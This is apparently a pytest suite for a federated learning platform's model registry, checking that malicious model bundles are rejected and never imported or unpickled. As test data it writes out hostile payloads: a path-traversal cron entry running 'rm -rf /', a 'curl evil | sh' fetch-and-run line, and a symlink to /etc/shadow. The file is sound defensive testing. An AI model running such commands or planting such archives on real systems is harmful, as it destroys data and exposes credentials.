"""Hostile bundles through the platform's registry: refused with clear problems, never imported, nothing stored."""

from __future__ import annotations

import ast
import stat
import zipfile
from pathlib import Path

import pytest

from nvflare_fdd.platform.service import BundleRejected

PACKAGE = Path(__file__).resolve().parents[2] / "nvflare_fdd"


@pytest.fixture
def alice(platform):
    return platform.user("alice")


def zip_of(path: Path, entries: dict[str, bytes], symlinks: dict[str, str] | None = None) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
        for name, target in (symlinks or {}).items():
            info = zipfile.ZipInfo(name)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, target)
    return path


def valid_entries(bundle: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in bundle.iterdir()}


@pytest.mark.parametrize(
    ("extra", "symlinks", "expected"),
    [
        ({"../../etc/cron.d/evil": b"* * * * * root rm -rf /"}, None, ".."),
        ({"/tmp/absolute.py": b"x = 1"}, None, "absolute"),
        ({}, {"secrets.txt": "/etc/shadow"}, "link"),
        ({"utils/helper.py": b"x = 1"}, None, "subfolder"),
        ({"run.sh": b"curl evil | sh"}, None, "not allowed"),
        ({"name\nwith-newline.txt": b""}, None, "name"),
    ],
)
def test_hostile_archives_are_refused_and_nothing_is_stored(platform, alice, tiny_bundle, tmp_path, extra, symlinks, expected):
    archive = zip_of(tmp_path / "evil.zip", {**valid_entries(tiny_bundle), **extra}, symlinks)
    with pytest.raises(BundleRejected) as caught:
        platform.register_model(alice, archive, "TinyRegressor", "1.0")
    assert expected in str(caught.value).lower()
    assert platform.storage.list_models() == []
    assert not Path("/etc/cron.d/evil").exists()


def test_a_zip_bomb_is_refused_before_it_is_extracted(platform, alice, tiny_bundle, tmp_path):
    entries = valid_entries(tiny_bundle)
    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
        with archive.open("weights.pt", "w", force_zip64=True) as handle:  # 1.3 GB of zeros, a few MB packed
            chunk = b"\0" * (1 << 20)
            for _ in range(1300):
                handle.write(chunk)
    assert path.stat().st_size < 20 << 20
    with pytest.raises(BundleRejected, match="GB"):
        platform.register_model(alice, path, "TinyRegressor", "1.0")


def test_requirements_pointing_at_local_files_are_refused(platform, alice, make_bundle):
    bundle = make_bundle({"requirements.txt": "torch\nmypkg @ file:///srv/pkgs/mypkg.whl\n./local_pkg\n-e git+ssh://x/y\n"}, name="req")
    with pytest.raises(BundleRejected) as caught:
        platform.register_model(alice, bundle, "TinyRegressor", "1.0")
    text = str(caught.value)
    assert "file://" in text and "local" in text.lower() and "editable" in text.lower()


def test_registering_never_imports_user_code(platform, alice, make_bundle, tmp_path):
    marker = tmp_path / "imported.txt"
    model = (
        "import pathlib\n"
        f"pathlib.Path({str(marker)!r}).write_text('model.py ran on the platform')\n"
        "import torch.nn as nn\n\n\n"
        "class TinyRegressor(nn.Module):\n"
        "    def __init__(self, configs=None):\n        super().__init__()\n        self.linear = nn.Linear(3, 1)\n\n\n"
        "def model_loader(configs):\n    return TinyRegressor(configs)\n"
    )
    bundle = make_bundle({"model.py": model}, name="side_effects")
    platform.register_model(alice, bundle, "TinyRegressor", "1.0")  # valid: it is accepted...
    platform.create_job(alice, "j", "TinyRegressor:1.0", 1, ["site_a"])
    platform.start_job(alice, "j")
    platform.tick()  # ...and a job is submitted (the stand-in runner checks the job folder)
    assert not marker.exists(), "the platform service imported the user's model.py"


def _unsafe_loads(tree: ast.AST) -> list[str]:
    found = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        name = ast.unparse(node.func)
        keywords = {k.arg: ast.unparse(k.value) for k in node.keywords}
        if name.endswith("torch.load") and keywords.get("weights_only") != "True":
            found.append(f"{name} without weights_only=True")
        if name in ("pickle.load", "pickle.loads", "cloudpickle.load", "cloudpickle.loads", "dill.load"):
            found.append(name)
        if name.endswith("np.load") and keywords.get("allow_pickle") == "True":
            found.append("np.load(allow_pickle=True)")
    return found


def test_the_platform_never_unpickles_what_users_send():
    """A meta-test over the package and plugin sources: model files are read with weights_only or safetensors."""
    sources = list(PACKAGE.rglob("*.py")) + list((PACKAGE.parent / "plugins").glob("*/fdd_*/*.py"))
    problems = {str(path.relative_to(PACKAGE.parent)): _unsafe_loads(ast.parse(path.read_text())) for path in sources}
    assert {path: found for path, found in problems.items() if found} == {}
    assert _unsafe_loads(ast.parse("import torch\ntorch.load('x.pt')\n"))  # the check itself can fail
